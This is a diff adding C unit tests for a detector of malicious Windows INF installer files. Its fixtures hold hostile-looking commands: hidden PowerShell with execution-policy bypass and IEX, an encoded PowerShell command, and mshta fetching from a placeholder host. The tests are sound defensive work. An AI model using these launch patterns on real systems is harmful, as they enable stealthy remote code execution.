@@ -1,0 +1,313 @@
+/* SPDX-License-Identifier: MIT */
+#include <infscan/infscan.h>
+
+#include "base/limits.h"
+#include "unit.h"
+
+struct fixture {
+    struct infscan_ruleset *rules;
+    struct infscan_scanner *scanner;
+};
+
+static struct fixture fixture;
+
+static int set_up(void **state)
+{
+    *state = &fixture;
+    return infscan_ruleset_new(INFSCAN_RULESET_BUILTIN, NULL, 0, &fixture.rules,
+                               NULL) != INFSCAN_OK ||
+           infscan_scanner_new(fixture.rules, NULL, &fixture.scanner, NULL) !=
+               INFSCAN_OK;
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    infscan_scanner_free(fixture.scanner);
+    infscan_ruleset_free(fixture.rules);
+    return 0;
+}
+
+static struct infscan_result *scan(struct str raw)
+{
+    struct infscan_result *result;
+
+    assert_int_equal(infscan_scan_bytes(fixture.scanner, "x.inf", raw.bytes,
+                                        raw.len, &result),
+                     INFSCAN_OK);
+    return result;
+}
+
+static const struct infscan_finding *
+finding(const struct infscan_result *result, const char *match)
+{
+    size_t n;
+    const struct infscan_finding *findings =
+        infscan_result_findings(result, &n);
+
+    for (size_t i = 0; i < n; i++) {
+        struct str text =
+            str_of(findings[i].match.bytes, findings[i].match.len);
+        if (str_find_fold(text, str_from(match), 0) != STR_NONE) {
+            return &findings[i];
+        }
+    }
+    return NULL;
+}
+
+#define EXAMPLE                                                                \
+    "[Version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n"                  \
+    "[DefaultInstall]\r\nCustomDestination=CustInstDestSectionAllUsers\r\n"    \
+    "RunPreSetupCommands=RunPreSetupCommandsSection\r\n"                       \
+    "[RunPreSetupCommandsSection]\r\n"                                         \
+    "powershell.exe -ep bypass -w hidden -c \"IEX(...)\"\r\n"
+
+static void test_the_seed_of_the_family(void **state)
+{
+    struct infscan_result *result = scan(STR(EXAMPLE));
+    const struct infscan_summary *summary = infscan_result_summary(result);
+    size_t n;
+
+    (void)state;
+    assert_int_equal(summary->verdict, INFSCAN_MALICIOUS);
+    assert_string_equal(summary->dialect, "advanced-inf");
+    assert_true(summary->accepted);
+    assert_non_null(finding(result, "bypass"));
+    assert_non_null(finding(result, "IEX"));
+    const struct infscan_finding *hidden = finding(result, "-w hidden");
+    assert_non_null(hidden);
+    assert_int_equal(hidden->place.line, 8);
+    assert_int_equal(hidden->place.column, 27);
+    assert_int_equal(hidden->place.length, 9);
+
+    const struct infscan_action *actions = infscan_result_actions(result, &n);
+    const struct infscan_action *action = &actions[hidden->action];
+    assert_int_equal(action->n_chain, 2);
+    assert_str(
+        str_of(action->chain[0].section.bytes, action->chain[0].section.len),
+        "DefaultInstall");
+    assert_str(str_of(action->chain[0].directive.bytes,
+                      action->chain[0].directive.len),
+               "RunPreSetupCommands");
+    assert_int_equal(action->chain[0].place.line, 6);
+    assert_str(
+        str_of(action->chain[1].section.bytes, action->chain[1].section.len),
+        "RunPreSetupCommandsSection");
+    assert_int_equal(action->chain[1].place.line, 8);
+    infscan_result_free(result);
+}
+
+static void test_a_result_outlives_its_scanner_and_rules(void **state)
+{
+    struct infscan_ruleset *rules;
+    struct infscan_scanner *scanner;
+    struct infscan_result *result;
+    size_t n;
+
+    (void)state;
+    assert_int_equal(
+        infscan_ruleset_new(INFSCAN_RULESET_BUILTIN, NULL, 0, &rules, NULL),
+        INFSCAN_OK);
+    assert_int_equal(infscan_scanner_new(rules, NULL, &scanner, NULL),
+                     INFSCAN_OK);
+    assert_int_equal(
+        infscan_scan_bytes(scanner, "x", EXAMPLE, sizeof EXAMPLE - 1, &result),
+        INFSCAN_OK);
+    infscan_scanner_free(scanner);
+    infscan_ruleset_free(rules);
+    const struct infscan_finding *findings =
+        infscan_result_findings(result, &n);
+    for (size_t i = 0; i < n; i++) {
+        assert_true(strlen(findings[i].title) > 3);
+        assert_non_null(findings[i].attack);
+    }
+    assert_int_equal(strlen(infscan_result_summary(result)->rules_digest), 64);
+    infscan_result_free(result);
+}
+
+static void test_the_same_bytes_give_the_same_result(void **state)
+{
+    struct infscan_result *a = scan(STR(EXAMPLE));
+    struct infscan_result *b = scan(STR(EXAMPLE));
+    size_t n;
+    size_t m;
+
+    (void)state;
+    const struct infscan_finding *x = infscan_result_findings(a, &n);
+    const struct infscan_finding *y = infscan_result_findings(b, &m);
+    assert_int_equal(n, m);
+    for (size_t i = 0; i < n; i++) {
+        assert_string_equal(x[i].rule, y[i].rule);
+        assert_int_equal(x[i].place.offset, y[i].place.offset);
+    }
+    infscan_result_free(a);
+    infscan_result_free(b);
+}
+
+static void test_an_honest_file_is_clean(void **state)
+{
+    struct infscan_result *result =
+        scan(STR("[Version]\nSignature=\"$Windows NT$\"\n[DefaultInstall]\n"
+                 "AddReg=A\n[A]\nHKLM,Software\\Contoso,Colour,,blue\n"));
+    size_t n;
+
+    (void)state;
+    assert_int_equal(infscan_result_summary(result)->verdict, INFSCAN_CLEAN);
+    assert_int_equal(infscan_result_summary(result)->score, 0);
+    infscan_result_actions(result, &n);
+    assert_int_equal(n, 1);
+    infscan_result_free(result);
+}
+
+static void test_odd_files_are_not_inf(void **state)
+{
+    static const struct str files[] = {
+        {"", 0},
+        {"MZ\x90\0\x03\0\0\0", 8},
+        {"\0\0\0\0\0\0\0\0", 8},
+        {"\xFF\xFE", 2},
+        {"hello\n", 6},
+        {"[Defines]\nINF_VERSION=1\nBASE_NAME=x\n", 36},
+    };
+
+    (void)state;
+    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
+        struct infscan_result *result = scan(files[i]);
+        const struct infscan_summary *summary = infscan_result_summary(result);
+        assert_int_equal(summary->status, INFSCAN_RESULT_NOT_INF);
+        assert_int_equal(summary->verdict, INFSCAN_CLEAN);
+        assert_int_equal(strlen(summary->sha256), 64);
+        infscan_result_free(result);
+    }
+}
+
+static void test_a_refused_file_still_shows_what_it_would_do(void **state)
+{
+    struct infscan_result *result = scan(
+        STR("[Version]\nSignature=$ind$\n[DefaultInstall]\n"
+            "RunPreSetupCommands=R\n[R]\nmshta http://example.invalid/a\n"));
+    const struct infscan_summary *summary = infscan_result_summary(result);
+    size_t n;
+
+    (void)state;
+    assert_false(summary->accepted);
+    assert_string_equal(summary->refusal, "ERROR_WRONG_INF_STYLE");
+    infscan_result_plans(result, &n);
+    assert_true(n > 0);
+    assert_int_not_equal(summary->verdict, INFSCAN_CLEAN);
+    infscan_result_free(result);
+}
+
+static void test_unreadable_files_are_error_results(void **state)
+{
+    struct infscan_result *result;
+
+    (void)state;
+    assert_int_equal(
+        infscan_scan_file(fixture.scanner, "/nonexistent/x.inf", &result),
+        INFSCAN_OK);
+    assert_int_equal(infscan_result_summary(result)->status,
+                     INFSCAN_RESULT_ERROR);
+    assert_int_equal(infscan_result_summary(result)->verdict,
+                     INFSCAN_VERDICT_NONE);
+    assert_true(infscan_result_summary(result)->error_message.len > 5);
+    infscan_result_free(result);
+    assert_int_equal(infscan_scan_file(fixture.scanner, "/", &result),
+                     INFSCAN_OK);
+    assert_int_equal(infscan_result_summary(result)->status,
+                     INFSCAN_RESULT_ERROR);
+    infscan_result_free(result);
+    assert_int_equal(infscan_scan_file(fixture.scanner, "/dev/null", &result),
+                     INFSCAN_OK);
+    assert_int_equal(infscan_result_summary(result)->status,
+                     INFSCAN_RESULT_ERROR);
+    infscan_result_free(result);
+}
+
+static void test_bad_options_are_refused(void **state)
+{
+    static const char *const launchers[] = {"cmstp:Sec", "nosuch"};
+    struct infscan_options options = {.launchers = launchers, .n_launchers = 2};
+    struct infscan_scanner *scanner = NULL;
+    struct infscan_error error = {0};
+
+    (void)state;
+    assert_int_equal(
+        infscan_scanner_new(fixture.rules, &options, &scanner, &error),
+        INFSCAN_INVALID);
+    assert_non_null(strstr(error.message, "nosuch"));
+    options = (struct infscan_options){.codepage = 4711};
+    assert_int_equal(
+        infscan_scanner_new(fixture.rules, &options, &scanner, &error),
+        INFSCAN_INVALID);
+    assert_null(scanner);
+    infscan_error_clear(&error);
+}
+
+static void test_a_file_name_that_is_not_utf8(void **state)
+{
+    struct infscan_result *result;
+
+    (void)state;
+    assert_int_equal(
+        infscan_scan_bytes(fixture.scanner, "a\xFFz", "", 0, &result),
+        INFSCAN_OK);
+    const struct infscan_summary *summary = infscan_result_summary(result);
+    assert_str(str_of(summary->path.bytes, summary->path.len),
+               "a\xEF\xBF\xBDz");
+    assert_str(str_of(summary->raw_path.bytes, summary->raw_path.len),
+               "a\xFFz");
+    infscan_result_free(result);
+}
+
+static void test_one_command_without_an_inf(void **state)
+{
+    static const char command[] = "powershell -w hidden -e SQBFAFgA";
+    struct infscan_result *result;
+    struct infscan_string final;
+    size_t n;
+
+    (void)state;
+    assert_int_equal(infscan_peel(fixture.scanner, command, sizeof command - 1,
+                                  &result, &final),
+                     INFSCAN_OK);
+    const struct infscan_action *actions = infscan_result_actions(result, &n);
+    assert_int_equal(n, 1);
+    assert_true(actions[0].n_layers >= 1);
+    assert_int_not_equal(infscan_result_summary(result)->verdict,
+                         INFSCAN_CLEAN);
+    infscan_result_free(result);
+    assert_int_equal(infscan_peel(fixture.scanner, "", 0, &result, &final),
+                     INFSCAN_OK);
+    assert_int_equal(final.len, 0);
+    infscan_result_free(result);
+}
+
+static void test_lines_of_the_file(void **state)
+{
+    struct infscan_result *result = scan(STR("[A]\r\nk=1\r\n"));
+    struct infscan_string line = infscan_result_line(result, 2);
+
+    (void)state;
+    assert_str(str_of(line.bytes, line.len), "k=1");
+    assert_int_equal(infscan_result_line(result, 99).len, 0);
+    infscan_result_free(result);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_the_seed_of_the_family),
+        cmocka_unit_test(test_a_result_outlives_its_scanner_and_rules),
+        cmocka_unit_test(test_the_same_bytes_give_the_same_result),
+        cmocka_unit_test(test_an_honest_file_is_clean),
+        cmocka_unit_test(test_odd_files_are_not_inf),
+        cmocka_unit_test(test_a_refused_file_still_shows_what_it_would_do),
+        cmocka_unit_test(test_unreadable_files_are_error_results),
+        cmocka_unit_test(test_bad_options_are_refused),
+        cmocka_unit_test(test_a_file_name_that_is_not_utf8),
+        cmocka_unit_test(test_one_command_without_an_inf),
+        cmocka_unit_test(test_lines_of_the_file),
+    };
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
